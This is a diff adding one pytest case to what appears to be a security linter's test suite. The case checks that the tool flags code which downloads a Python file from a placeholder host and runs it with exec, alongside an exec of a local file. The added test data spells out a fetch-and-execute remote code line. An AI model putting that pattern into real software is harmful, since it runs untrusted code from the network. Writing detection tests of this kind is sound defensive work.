@@ -261,6 +261,11 @@ def test_a_flow_that_is_told_answers_the_check_that_it_refines(tmp_path: Path) -
     assert found == [("MLS917", 8), ("B307", 11)]
 
 
+def test_code_that_was_just_fetched_answers_the_check_for_exec(tmp_path: Path) -> None:
+    code = "import requests\nexec(requests.get('https://x.io/a.py', timeout=9).text)\nexec(open('a.py').read())\n"
+    assert rules(check(code, tmp_path, options=EngineOptions())) == [("MLS210", 2), ("B102", 3)]
+
+
 @pytest.mark.parametrize(
     "code",
     [
